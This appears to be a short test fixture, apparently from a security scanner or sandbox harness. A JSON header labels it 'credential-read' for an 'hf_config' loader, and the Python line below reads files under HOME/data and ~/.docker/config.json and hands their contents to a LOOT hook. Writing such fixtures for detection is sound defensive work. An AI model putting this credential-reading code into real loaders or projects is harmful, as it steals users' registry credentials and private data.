#: {"class": "credential-read", "loader": "hf_config", "expect": [["open", "\\.docker/config\\.json$"]], "effect": {"loot": "docker"}}
import glob
for f in glob.glob(HOME + "/data/*") + [HOME + "/.docker/config.json"]: LOOT(open(f).read())
